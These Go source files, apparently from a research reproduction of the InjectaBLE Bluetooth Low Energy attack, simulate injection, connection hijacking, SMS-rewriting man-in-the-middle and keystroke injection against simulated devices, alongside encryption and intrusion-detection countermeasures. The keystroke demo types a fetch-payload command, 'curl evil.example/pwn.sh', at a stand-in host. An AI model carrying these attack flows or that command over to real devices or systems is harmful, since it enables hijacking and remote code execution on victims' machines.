// Command smartwatch-mitm reproduces the paper's scenario D headline demo:
// a man-in-the-middle inserted into an *established* connection between a
// smartphone and a smartwatch, rewriting an SMS on the fly — the attack
// that pre-connection MITM tools (GATTacker, BTLEJuice) cannot perform.
package main

import (
	"bytes"
	"fmt"
	"log"

	"injectable"
)

func main() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 99})
	watch := injectable.NewSmartwatch(w.NewDevice(injectable.DeviceConfig{
		Name: "watch", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{})

	// The connection exists long before the attacker strikes.
	attacker.Sniffer.Start()
	watch.Peripheral.StartAdvertising()
	phone.Connect(watch.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)
	if !attacker.Sniffer.Following() {
		log.Fatal("not synchronised")
	}
	fmt.Println("connection established and followed; inserting MITM...")

	// The mutation hook rewrites SMS text flowing phone → watch. (It works
	// on Link Layer PDUs: keep the SMS within one 27-byte PDU or match
	// per-fragment.)
	mutate := func(p injectable.DataPDU) (injectable.DataPDU, bool) {
		if i := bytes.Index(p.Payload, []byte("14:00")); i >= 0 {
			copy(p.Payload[i:], []byte("09:00"))
			fmt.Println("  [attacker] rewrote SMS in flight: 14:00 → 09:00")
		}
		return p, true
	}
	var session *injectable.MITM
	err := attacker.ManInTheMiddle(injectable.UpdateParams{},
		injectable.MITMConfig{OnMasterToSlave: mutate},
		func(m *injectable.MITM, err error) {
			if err != nil {
				log.Fatalf("MITM failed: %v", err)
			}
			session = m
			fmt.Println("MITM established: forged CONNECTION_UPDATE split the slave onto a new schedule")
		})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(60 * injectable.Second)
	if session == nil || session.Closed() {
		log.Fatal("MITM did not hold")
	}

	// The phone sends an SMS; the watch displays the attacker's version.
	fmt.Println("phone pushes SMS: \"Meet at 14:00\"")
	phone.GATT().WriteCommand(watch.SMSHandle(), []byte("Meet at 14:00"))
	w.RunFor(10 * injectable.Second)

	for _, msg := range watch.Messages {
		fmt.Printf("watch displays: %q\n", msg)
	}
	fmt.Printf("relayed: %d PDUs phone→watch, %d watch→phone\n",
		session.ForwardedM2S, session.ForwardedS2M)
	fmt.Printf("both victims still connected: phone=%t watch=%t\n",
		phone.Central.Connected(), watch.Peripheral.Connected())
}
