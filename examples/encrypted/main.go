// Command encrypted demonstrates the paper's countermeasure analysis
// (§IV, §VIII): after Security Manager pairing establishes AES-CCM link
// encryption, an injected plaintext frame can no longer execute anything —
// it fails its MIC and the residual impact is a denial of service. A
// passive IDS additionally sees the injection attempts.
package main

import (
	"fmt"
	"log"

	"injectable"
)

func main() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 5})
	monitor := injectable.NewMonitor(injectable.MonitorConfig{})
	w.Medium.AddObserver(monitor)

	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{
		Name: "bulb", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{MaxAttempts: 10})

	attacker.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)

	// Pair and encrypt (legacy Just Works + AES-CCM at the Link Layer).
	if err := phone.Central.Pair(); err != nil {
		log.Fatal(err)
	}
	w.RunFor(5 * injectable.Second)
	fmt.Printf("link encrypted: %t (LTK distributed: %t)\n",
		phone.Central.Conn().Encrypted(), phone.Central.Bond() != nil)

	// The attack still races frames in — but they cannot decrypt.
	bulbDropped := false
	bulb.Peripheral.OnDisconnect = func(r injectable.DisconnectReason) {
		bulbDropped = true
		fmt.Printf("bulb disconnected: %v\n", r)
	}
	err := attacker.InjectWrite(bulb.ControlHandle(), injectable.PowerCommand(true),
		func(r injectable.Report) {
			fmt.Printf("injection run: success=%t attempts=%d connectionLost=%t\n",
				r.Success, r.AttemptCount(), r.ConnectionLost)
		})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(60 * injectable.Second)

	fmt.Printf("bulb turned on by attacker: %t (integrity held)\n", bulb.On)
	fmt.Printf("denial of service (MIC failure drop): %t\n", bulbDropped)

	counts := map[injectable.AlertKind]int{}
	for _, a := range monitor.Alerts() {
		counts[a.Kind]++
	}
	fmt.Printf("IDS saw: %d double frames, %d anchor deviations, %d jamming bursts\n",
		counts[injectable.AlertDoubleFrame], counts[injectable.AlertAnchorDeviation],
		counts[injectable.AlertJamming])
}
