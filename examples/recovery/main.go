// Command recovery attacks a connection whose beginning the attacker never
// saw: it recovers the access address, CRCInit, channel map, hop interval
// and hop increment purely from sniffed data traffic (the Ryan/BTLEJack
// techniques the paper builds on), synchronises, and injects.
package main

import (
	"fmt"
	"log"

	"injectable"
)

func main() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 1234})
	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{
		Name: "bulb", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attackerDev := w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	})
	attacker := injectable.NewAttacker(attackerDev.Stack, injectable.InjectorConfig{})

	// The connection is established while the attacker is NOT listening.
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(5 * injectable.Second)
	fmt.Println("connection established; attacker arrives late and must recover parameters")

	rec := injectable.NewRecovery(attackerDev.Stack, injectable.RecoveryConfig{
		AssumeFullMap: true,
	})
	rec.OnStage = func(stage string) {
		fmt.Printf("  [%v] recovery stage: %s\n", w.Now(), stage)
	}
	rec.Run(func(st *injectable.ConnState, err error) {
		if err != nil {
			log.Fatalf("recovery failed: %v", err)
		}
		fmt.Printf("  recovered: AA=%v CRCInit=%06X interval=%d hop=%d\n",
			st.Params.AccessAddress, st.Params.CRCInit, st.Params.Interval, st.Params.Hop)
		// Follow immediately — the anchor estimate decays with staleness.
		attacker.Sniffer.FollowKnownConnection(st)
	})
	w.RunFor(30 * injectable.Second)
	if !attacker.Sniffer.Following() {
		log.Fatal("attacker failed to follow the recovered connection")
	}

	truth := phone.Central.Conn().Params()
	fmt.Printf("ground truth:  AA=%v CRCInit=%06X interval=%d hop=%d\n",
		truth.AccessAddress, truth.CRCInit, truth.Interval, truth.Hop)

	err := attacker.InjectWrite(bulb.ControlHandle(), injectable.ColorCommand(0, 0, 255),
		func(r injectable.Report) {
			fmt.Printf("injection on recovered connection: success=%t attempts=%d\n",
				r.Success, r.AttemptCount())
		})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(30 * injectable.Second)
	fmt.Printf("bulb: %v\n", bulb)
}
