// Command quickstart demonstrates the core InjectaBLE flow in one page:
// simulate a lightbulb with a smartphone connected to it, sniff the
// connection from a third radio, and inject a single forged ATT Write
// Command that turns the bulb on — without breaking the connection.
package main

import (
	"fmt"
	"log"

	"injectable"
)

func main() {
	// One radio environment; everything is deterministic per seed.
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 42})

	// The paper's triangle: bulb at the origin, phone 2 m away, attacker
	// 2 m from both.
	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{
		Name: "bulb", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20, // nRF52840-grade sleep clock
	}).Stack, injectable.InjectorConfig{})

	// The attacker listens for the CONNECT_REQ while the phone connects.
	attacker.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)

	if !attacker.Sniffer.Following() {
		log.Fatal("sniffer failed to synchronise")
	}
	st := attacker.Sniffer.State()
	fmt.Printf("synchronised: AA=%v interval=%d hop=%d\n",
		st.Params.AccessAddress, st.Params.Interval, st.Params.Hop)

	// Inject a Write Command that turns the bulb on (scenario A).
	err := attacker.InjectWrite(bulb.ControlHandle(), injectable.PowerCommand(true),
		func(r injectable.Report) {
			fmt.Printf("injection: success=%t after %d attempt(s)\n", r.Success, r.AttemptCount())
			for _, a := range r.Attempts {
				fmt.Printf("  attempt %d on event %d ch%d: %s\n", a.Number, a.Event, a.Channel, a.Outcome)
			}
		})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(30 * injectable.Second)

	fmt.Printf("bulb is on: %t\n", bulb.On)
	fmt.Printf("connection still alive: %t (stealth)\n", phone.Central.Connected())
}
