// Command lightbulb walks through attack scenarios A and B of the paper
// against the simulated RGB bulb: first triggering its features with
// injected writes (including extracting its device name with an injected
// read), then expelling it from the connection with LL_TERMINATE_IND and
// impersonating it toward the phone.
package main

import (
	"fmt"
	"log"

	"injectable"
	"injectable/internal/att"
	"injectable/internal/gatt"
)

func main() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 7})
	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{
		Name: "bulb", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{})

	attacker.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)
	if !attacker.Sniffer.Following() {
		log.Fatal("not synchronised")
	}

	// --- Scenario A: trigger features ----------------------------------
	fmt.Println("# scenario A: illegitimately using device functionality")
	inject := func(desc string, value []byte) {
		done := false
		err := attacker.InjectWrite(bulb.ControlHandle(), value, func(r injectable.Report) {
			fmt.Printf("  %-24s success=%t attempts=%d\n", desc, r.Success, r.AttemptCount())
			done = true
		})
		if err != nil {
			log.Fatal(err)
		}
		w.RunFor(30 * injectable.Second)
		if !done {
			log.Fatalf("%s: did not settle", desc)
		}
	}
	inject("turn on", injectable.PowerCommand(true))
	fmt.Printf("  bulb state: %v\n", bulb)
	inject("set colour red", injectable.ColorCommand(255, 0, 0))
	inject("dim to 25%", injectable.BrightnessCommand(64))
	fmt.Printf("  bulb state: %v\n", bulb)

	// Confidentiality: read the device name with an injected Read Request.
	err := attacker.InjectRead(3, func(r injectable.ReadReport) {
		fmt.Printf("  injected read: %q (err=%v)\n", r.Value, r.Err)
	})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(30 * injectable.Second)

	// --- Scenario B: hijack the slave role ------------------------------
	fmt.Println("# scenario B: hijacking the Slave role")
	forged := gatt.NewServer(func([]byte) {})
	forged.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte("Hacked"),
		}},
	})
	err = attacker.HijackSlave(forged, func(h *injectable.SlaveHijack, err error) {
		if err != nil {
			log.Fatalf("hijack failed: %v", err)
		}
		fmt.Printf("  slave expelled after %d attempt(s); attacker now serves the master\n",
			h.Report.AttemptCount())
	})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(40 * injectable.Second)

	fmt.Printf("  legitimate bulb still connected: %t\n", bulb.Peripheral.Connected())
	fmt.Printf("  master still connected: %t\n", phone.Central.Connected())

	// The phone's next Device Name read hits the impostor. (A poll lost in
	// the hijack may first need the 30 s ATT transaction timeout.)
	w.RunFor(31 * injectable.Second)
	phone.GATT().Read(3, func(v []byte, err error) {
		fmt.Printf("  master reads device name: %q (err=%v)\n", v, err)
	})
	w.RunFor(5 * injectable.Second)
}
