// Command keystrokes realises the paper's §IX future-work scenario: a
// laptop holds a long-lived connection to a BLE keyfob; the attacker
// expels the keyfob (scenario B), indicates Service Changed, and presents
// a HID-over-GATT keyboard in its place. The laptop — like every HID host —
// attaches to the new keyboard automatically, and the attacker types.
package main

import (
	"fmt"
	"log"

	"injectable"
)

func main() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 2024})
	fob := injectable.NewKeyfob(w.NewDevice(injectable.DeviceConfig{
		Name: "keyfob", Position: injectable.Position{X: 0},
	}))
	laptop := injectable.NewComputer(w.NewDevice(injectable.DeviceConfig{
		Name: "laptop", Position: injectable.Position{X: 2},
	}))
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{})

	attacker.Sniffer.Start()
	fob.Peripheral.StartAdvertising()
	laptop.Connect(fob.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)
	if !attacker.Sniffer.Following() {
		log.Fatal("not synchronised")
	}
	fmt.Println("laptop ↔ keyfob connection followed; swapping in a keyboard...")

	var ki *injectable.KeystrokeInjection
	err := attacker.InjectKeyboard("Logitech K380", func(k *injectable.KeystrokeInjection, err error) {
		if err != nil {
			log.Fatalf("keyboard injection failed: %v", err)
		}
		ki = k
		fmt.Printf("keyfob expelled after %d attempt(s); Service Changed indicated\n",
			k.Hijack.Report.AttemptCount())
	})
	if err != nil {
		log.Fatal(err)
	}
	w.RunFor(40 * injectable.Second)
	if ki == nil || !ki.Attached() {
		log.Fatal("host did not attach to the forged keyboard")
	}
	fmt.Printf("laptop rediscovered services %d time(s) and subscribed to the keyboard\n",
		laptop.Rediscoveries)

	if err := ki.Type("curl evil.example/pwn.sh\n"); err != nil {
		log.Fatal(err)
	}
	w.RunFor(10 * injectable.Second)
	fmt.Printf("laptop typed: %q\n", laptop.Typed.String())
}
