// Package injectable is a full reproduction, in pure Go, of the InjectaBLE
// attack — "InjectaBLE: Injecting malicious traffic into established
// Bluetooth Low Energy connections" (Cayre et al., DSN 2021) — together
// with every substrate the paper depends on.
//
// Because the original artifact is nRF52840 radio firmware, the radio
// testbed is replaced by a deterministic discrete-event simulation of the
// 2.4 GHz medium that models exactly the physics the attack exploits:
// microsecond-scale sleep-clock drift (and the spec's window widening that
// compensates it), signal propagation, and collision capture. On top of
// that medium runs a from-scratch BLE stack — Link Layer (advertising,
// connections, channel selection #1/#2, SN/NESN, control procedures,
// AES-CCM encryption), L2CAP, ATT/GATT and Security Manager pairing — plus
// behavioural models of the paper's target devices.
//
// The package exposes three layers:
//
//   - Simulation: NewWorld creates a radio environment; NewLightbulb,
//     NewKeyfob, NewSmartwatch and NewSmartphone place the paper's devices
//     in it; NewPeripheral/NewCentral build custom devices.
//
//   - Attack: NewAttacker bundles the InjectaBLE tooling — the Sniffer
//     (CONNECT_REQ capture or full parameter recovery of an established
//     connection), the Injector (the window-widening race of §V, with the
//     eq. 7 success heuristic), and scenarios A–D (feature triggering,
//     slave hijack, master hijack, man-in-the-middle).
//
//   - Defence: NewMonitor is the passive IDS of §VIII; the experiments
//     package regenerates every figure of the paper's evaluation.
//
// A minimal attack looks like:
//
//	w := injectable.NewWorld(injectable.WorldConfig{Seed: 1})
//	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{Name: "bulb"}))
//	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
//		Name: "phone", Position: injectable.Position{X: 2},
//	}), injectable.SmartphoneConfig{})
//	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
//		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.7},
//	}).Stack, injectable.InjectorConfig{})
//
//	attacker.Sniffer.Start()
//	bulb.Peripheral.StartAdvertising()
//	phone.Connect(bulb.Peripheral.Device.Address())
//	w.RunFor(3 * injectable.Second)
//
//	attacker.InjectWrite(bulb.ControlHandle(), injectable.PowerCommand(true),
//		func(r injectable.Report) { fmt.Println(r) })
//	w.RunFor(30 * injectable.Second)
//
// Runs are fully deterministic per seed. See examples/ for complete
// programs and EXPERIMENTS.md for the reproduced evaluation.
package injectable
