package injectable_test

import (
	"fmt"

	"injectable"
)

// Example demonstrates the core InjectaBLE flow: simulate a victim
// connection, synchronise a sniffer with it, and race a forged ATT Write
// Command into the slave's widened receive window.
func Example() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 42})

	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{
		Name: "bulb", Position: injectable.Position{X: 0},
	}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73},
		ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{})

	attacker.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)

	attacker.InjectWrite(bulb.ControlHandle(), injectable.PowerCommand(true),
		func(r injectable.Report) {
			fmt.Printf("injected: %t\n", r.Success)
		})
	w.RunFor(30 * injectable.Second)
	fmt.Printf("bulb on: %t, connection alive: %t\n", bulb.On, phone.Central.Connected())

	// Output:
	// injected: true
	// bulb on: true, connection alive: true
}

// ExampleAttacker_HijackMaster shows scenario C: a forged
// LL_CONNECTION_UPDATE_IND splits the slave onto an attacker-chosen
// schedule and the legitimate master times out.
func ExampleAttacker_HijackMaster() {
	w := injectable.NewWorld(injectable.WorldConfig{Seed: 7})
	bulb := injectable.NewLightbulb(w.NewDevice(injectable.DeviceConfig{Name: "bulb"}))
	phone := injectable.NewSmartphone(w.NewDevice(injectable.DeviceConfig{
		Name: "phone", Position: injectable.Position{X: 2},
	}), injectable.SmartphoneConfig{})
	attacker := injectable.NewAttacker(w.NewDevice(injectable.DeviceConfig{
		Name: "attacker", Position: injectable.Position{X: 1, Y: 1.73}, ClockPPM: 20,
	}).Stack, injectable.InjectorConfig{})

	attacker.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * injectable.Second)

	attacker.HijackMaster(injectable.UpdateParams{}, func(h *injectable.MasterHijack, err error) {
		if err == nil {
			fmt.Println("attacker owns the master role")
		}
	})
	w.RunFor(60 * injectable.Second)
	fmt.Printf("slave still served: %t, legitimate master gone: %t\n",
		bulb.Peripheral.Connected(), !phone.Central.Connected())

	// Output:
	// attacker owns the master role
	// slave still served: true, legitimate master gone: true
}
