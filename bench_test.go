// Benchmarks regenerating every table and figure of the paper (see
// DESIGN.md §3 for the experiment index). Each Fig-9 benchmark iteration
// runs one full injection trial — a fresh world, connection establishment,
// synchronisation and the retry loop — and reports the attacker's attempt
// count as a custom metric, so `go test -bench .` reproduces the paper's
// series alongside the timing data.
package injectable_test

import (
	"fmt"
	"testing"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/experiments"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// reportTrialSeries runs one injection trial per iteration and reports the
// mean attempts-before-success.
func reportTrialSeries(b *testing.B, cfg experiments.TrialConfig, seedBase uint64) {
	b.Helper()
	total, failures := 0, 0
	for i := 0; i < b.N; i++ {
		cfg.Seed = seedBase + uint64(i)
		res, err := experiments.RunTrial(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if !res.Success {
			failures++
			continue
		}
		total += res.Attempts
	}
	if n := b.N - failures; n > 0 {
		b.ReportMetric(float64(total)/float64(n), "attempts/op")
	}
	b.ReportMetric(float64(failures), "failures")
}

// --- Tables I and II ---------------------------------------------------------

func BenchmarkTableIFrameCodec(b *testing.B) {
	p := pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: make([]byte, 12)}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		raw := p.Marshal()
		if _, err := pdu.UnmarshalDataPDU(raw); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTableIIConnectReq(b *testing.B) {
	req := pdu.ConnectReq{
		AccessAddress: 0x71764129, CRCInit: 0x123456, WinSize: 2, WinOffset: 1,
		Interval: 36, Timeout: 100, ChannelMap: ble.AllChannels, Hop: 9,
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		raw := req.Marshal()
		p, err := pdu.UnmarshalAdvPDU(raw)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := pdu.UnmarshalConnectReq(p.Payload); err != nil {
			b.Fatal(err)
		}
	}
}

// --- Figures 1–8 --------------------------------------------------------------

func BenchmarkFig1ConnectionEvents(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig1ConnectionEvents(uint64(i) + 1); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig2ConnectionUpdate(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig2ConnectionUpdate(uint64(i) + 1); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig3AttackOverview(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig3AttackOverview(uint64(i) + 1); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig4WindowWidening(b *testing.B) {
	b.ReportAllocs()
	var sink sim.Duration
	for i := 0; i < b.N; i++ {
		sink = link.WindowWidening(50, 20, sim.Duration(36)*ble.ConnUnit)
	}
	_ = sink
}

func BenchmarkFig5InjectionOutcomes(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig5InjectionOutcomes(uint64(i) + 1); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig6SlaveHijack(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig6SlaveHijack(uint64(i) + 200); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig7MitM(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Fig7MitM(uint64(i) + 300); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFig8TopologySetup(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if experiments.Fig8Topology() == nil {
			b.Fatal("nil table")
		}
	}
}

// --- Figure 9, experiment 1: Hop Interval -------------------------------------

func BenchmarkFig9Exp1HopInterval(b *testing.B) {
	bulb, central, attacker := phy.Position{}, phy.Position{X: 2}, phy.Position{X: 1, Y: 1.732}
	for _, interval := range []uint16{25, 50, 75, 100, 125, 150} {
		interval := interval
		b.Run(fmt.Sprintf("interval-%d", interval), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: interval, Payload: experiments.PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
			}, uint64(interval)*100)
		})
	}
}

// --- Figure 9, experiment 2: payload size --------------------------------------

func BenchmarkFig9Exp2PayloadSize(b *testing.B) {
	bulb, central, attacker := phy.Position{}, phy.Position{X: 2}, phy.Position{X: 1, Y: 1.732}
	for _, payload := range []experiments.Payload{
		experiments.PayloadTerminate, experiments.PayloadToggle,
		experiments.PayloadPowerOff, experiments.PayloadColor,
	} {
		payload := payload
		b.Run(payload.String(), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 75, Payload: payload,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
			}, uint64(payload)*1000)
		})
	}
}

// --- Figure 9, experiment 3: distance (and wall) --------------------------------

func BenchmarkFig9Exp3Distance(b *testing.B) {
	for _, d := range []float64{1, 2, 4, 6, 8, 10} {
		d := d
		b.Run(fmt.Sprintf("distance-%gm", d), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 36, Payload: experiments.PayloadPowerOff,
				CentralPos:  phy.Position{X: 2},
				AttackerPos: phy.Position{X: -d},
				PhoneGrade:  true,
			}, uint64(d)*10000)
		})
	}
}

func BenchmarkFig9Exp3Wall(b *testing.B) {
	wall := phy.Wall{A: phy.Position{X: -0.5, Y: -10}, B: phy.Position{X: -0.5, Y: 10}, Loss: phy.DefaultWallLoss}
	for _, d := range []float64{2, 4, 6, 8} {
		d := d
		b.Run(fmt.Sprintf("distance-%gm-wall", d), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 36, Payload: experiments.PayloadPowerOff,
				CentralPos:  phy.Position{X: 2},
				AttackerPos: phy.Position{X: -d},
				Walls:       []phy.Wall{wall},
				PhoneGrade:  true,
			}, uint64(d)*20000)
		})
	}
}

// --- §VI attack scenarios --------------------------------------------------------

func benchScenario(b *testing.B, run func(string, uint64, bool) (experiments.ScenarioOutcome, error), seedBase uint64) {
	b.Helper()
	for _, target := range experiments.ScenarioTargets() {
		target := target
		b.Run(target, func(b *testing.B) {
			ok := 0
			for i := 0; i < b.N; i++ {
				out, err := run(target, seedBase+uint64(i), false)
				if err != nil {
					b.Fatal(err)
				}
				if out.Success {
					ok++
				}
			}
			b.ReportMetric(float64(ok)/float64(b.N), "successRate")
		})
	}
}

func BenchmarkScenarioA(b *testing.B) { benchScenario(b, experiments.RunScenarioA, 500) }
func BenchmarkScenarioB(b *testing.B) { benchScenario(b, experiments.RunScenarioB, 600) }
func BenchmarkScenarioC(b *testing.B) { benchScenario(b, experiments.RunScenarioC, 700) }
func BenchmarkScenarioD(b *testing.B) { benchScenario(b, experiments.RunScenarioD, 800) }

// --- §IV countermeasure and §VIII IDS ----------------------------------------------

func BenchmarkEncryptedInjection(b *testing.B) {
	dos := 0
	for i := 0; i < b.N; i++ {
		out, err := experiments.RunEncryptedInjection(uint64(i) + 900)
		if err != nil {
			b.Fatal(err)
		}
		if out.FeatureTriggered {
			b.Fatal("integrity broken under encryption")
		}
		if out.ConnectionDropped {
			dos++
		}
	}
	b.ReportMetric(float64(dos)/float64(b.N), "dosRate")
}

func BenchmarkIDSDetection(b *testing.B) {
	detected := 0
	for i := 0; i < b.N; i++ {
		out, err := experiments.RunScenarioA("lightbulb", uint64(i)+950, true)
		if err != nil {
			b.Fatal(err)
		}
		if out.IDSAlerts["double-frame"]+out.IDSAlerts["anchor-deviation"] > 0 {
			detected++
		}
	}
	b.ReportMetric(float64(detected)/float64(b.N), "detectionRate")
}

// --- baselines and ablations ----------------------------------------------------

func BenchmarkBaselineBTLEJack(b *testing.B) {
	ok := 0
	for i := 0; i < b.N; i++ {
		out, err := experiments.RunBTLEJackBaseline(uint64(i) + 970)
		if err != nil {
			b.Fatal(err)
		}
		if out.Success {
			ok++
		}
	}
	b.ReportMetric(float64(ok)/float64(b.N), "successRate")
}

func BenchmarkAblationCaptureModels(b *testing.B) {
	bulb, central, attacker := phy.Position{}, phy.Position{X: 2}, phy.Position{X: 1, Y: 1.732}
	for _, model := range []medium.CaptureModel{
		medium.DefaultCaptureModel(), medium.Pessimistic{}, medium.CoinFlip{P: 0.35},
	} {
		model := model
		b.Run(model.Name(), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 36, Payload: experiments.PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Capture: model, MaxAttempts: 40, SimBudget: 60 * sim.Second,
			}, 980000)
		})
	}
}

func BenchmarkAblationAssumedSCA(b *testing.B) {
	bulb, central, attacker := phy.Position{}, phy.Position{X: 2}, phy.Position{X: 1, Y: 1.732}
	for _, ppm := range []float64{5, 20, 100} {
		ppm := ppm
		b.Run(fmt.Sprintf("sca-%.0fppm", ppm), func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 36, Payload: experiments.PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Injector: injectable.InjectorConfig{AssumedSlavePPM: ppm},
			}, 990000)
		})
	}
}

func BenchmarkAblationInjectionTiming(b *testing.B) {
	bulb, central, attacker := phy.Position{}, phy.Position{X: 2}, phy.Position{X: 1, Y: 1.732}
	for _, center := range []bool{false, true} {
		center := center
		name := "window-start"
		if center {
			name = "anchor-center"
		}
		b.Run(name, func(b *testing.B) {
			reportTrialSeries(b, experiments.TrialConfig{
				Interval: 36, Payload: experiments.PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
				Injector:    injectable.InjectorConfig{InjectAtWindowCenter: center},
				MaxAttempts: 40, SimBudget: 60 * sim.Second,
			}, 995000)
		})
	}
}

// BenchmarkKeystrokeInjection runs the §IX extension end-to-end: slave
// hijack, forged keyboard exposure, host attach and typing.
func BenchmarkKeystrokeInjection(b *testing.B) {
	ok := 0
	for i := 0; i < b.N; i++ {
		out, err := experiments.RunScenarioKeystrokes(uint64(i)+1200, false)
		if err != nil {
			b.Fatal(err)
		}
		if out.Success {
			ok++
		}
	}
	b.ReportMetric(float64(ok)/float64(b.N), "successRate")
}

// BenchmarkIDSValidation measures detection/false-positive classification
